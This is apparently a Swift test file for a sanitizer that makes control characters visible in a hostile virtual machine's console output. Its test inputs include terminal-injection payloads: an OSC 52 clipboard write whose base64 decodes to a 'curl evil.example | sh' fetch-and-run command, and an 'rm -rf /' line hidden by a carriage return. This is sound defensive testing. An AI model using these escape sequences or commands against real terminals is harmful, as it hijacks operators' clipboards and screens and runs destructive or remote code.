import HVPresentation
import Testing

/// A hostile guest's console output, shown to the operator without their terminal obeying it.
@Suite struct TerminalTextTests {
    @Test func plainTextLineFeedsAndTabsStay() {
        let text = "Debian GNU/Linux 12 web1 ttyS0\n\nweb1 login: \tprêt ✓ 日本\n"
        #expect(TerminalText.visible(text) == text)
    }

    /// OSC 52 sets the clipboard; terminated by BEL or by ST (ESC \).
    @Test func osc52CannotSetTheClipboard() {
        let bel = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
        #expect(TerminalText.visible(bel) == "^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G")
        let st = "\u{1B}]52;c;eA==\u{1B}\\"
        #expect(TerminalText.visible(st) == "^[]52;c;eA==^[\\")
    }

    @Test func csiSequencesCannotMoveTheCursorOrClearTheScreen() {
        let text = "ok\u{1B}[2J\u{1B}[1;1H\u{1B}[Aforged\u{1B}[0m"
        #expect(TerminalText.visible(text) == "ok^[[2J^[[1;1H^[[Aforged^[[0m")
    }

    /// A lone carriage return would let the rest of the line overwrite what came before it.
    @Test func aCarriageReturnCannotHideWhatCameBefore() {
        #expect(TerminalText.visible("rm -rf / \rls -l") == "rm -rf / ^Mls -l")
        #expect(TerminalText.visible("text\r") == "text^M")
        #expect(TerminalText.visible("a\r\r\nb") == "a^M\nb")
    }

    @Test func crLfLineEndsReadAsLineFeeds() {
        #expect(TerminalText.visible("[  OK  ] Started\r\nlogin: \r\n") == "[  OK  ] Started\nlogin: \n")
    }

    @Test func backspaceAndDeleteAreShown() {
        #expect(TerminalText.visible("safe\u{08}\u{08}\u{08}\u{08}evil\u{7F}") == "safe^H^H^H^Hevil^?")
        #expect(TerminalText.visible("\u{00}\u{1F}") == "^@^_")
    }

    /// U+009B is CSI on its own; some terminals obey C1 controls written as characters.
    @Test func c1ControlsAsCharactersAreShown() {
        #expect(TerminalText.visible("\u{9B}2J") == "<U+009B>2J")
        #expect(TerminalText.visible("\u{9D}52;c;eA==\u{9C}") == "<U+009D>52;c;eA==<U+009C>")
        #expect(TerminalText.visible("\u{85}\u{80}\u{9F}") == "<U+0085><U+0080><U+009F>")
    }

    /// The same controls as single bytes are not UTF-8; an 8-bit terminal would obey them.
    @Test func c1ControlsAsRawBytesAreShown() {
        #expect(TerminalText.visible([0x9B, 0x32, 0x4A]) == "\\x9b2J")
        #expect(TerminalText.visible([0x9D, 0x35, 0x32, 0x3B, 0x9C]) == "\\x9d52;\\x9c")
    }

    @Test(arguments: [
        ([0x66, 0xC3, 0x28] as [UInt8], "f\\xc3("),  // a lead byte without its continuation
        ([0xC0, 0x80], "\\xc0\\x80"),  // an overlong NUL
        ([0xED, 0xA0, 0x80], "\\xed\\xa0\\x80"),  // a UTF-16 surrogate
        ([0x61, 0xE2, 0x82], "a\\xe2\\x82"),  // cut off at the end
        ([0xFF, 0xFE, 0x41], "\\xff\\xfeA"),
        ([0xE2, 0x82, 0xAC], "€"),  // valid, for comparison
    ])
    func invalidUTF8IsShownAsBytes(bytes: [UInt8], shown: String) {
        #expect(TerminalText.visible(bytes) == shown)
    }

    @Test func bidirectionalOverridesAreShown() {
        #expect(TerminalText.visible("user\u{202E}txt.exe") == "user<U+202E>txt.exe")
        #expect(TerminalText.visible("\u{2066}a\u{2069}") == "<U+2066>a<U+2069>")
    }

    /// Whatever the bytes, the result holds no control character but line feed and tab.
    @Test func noByteSequenceLetsAControlThrough() {
        var inputs: [[UInt8]] = (0...255).map { [UInt8($0)] }
        for lead: UInt8 in [0xC2, 0xE2, 0x1B, 0x0D] {
            inputs += (0...255).map { [lead, UInt8($0)] }
        }
        for input in inputs {
            let shown = TerminalText.visible(input)
            let leaked = shown.unicodeScalars.first { scalar in
                (scalar.value < 0x20 && scalar != "\n" && scalar != "\t") || (0x7F...0x9F).contains(scalar.value)
            }
            #expect(leaked == nil, "\(input) → \(shown.debugDescription)")
        }
    }
}
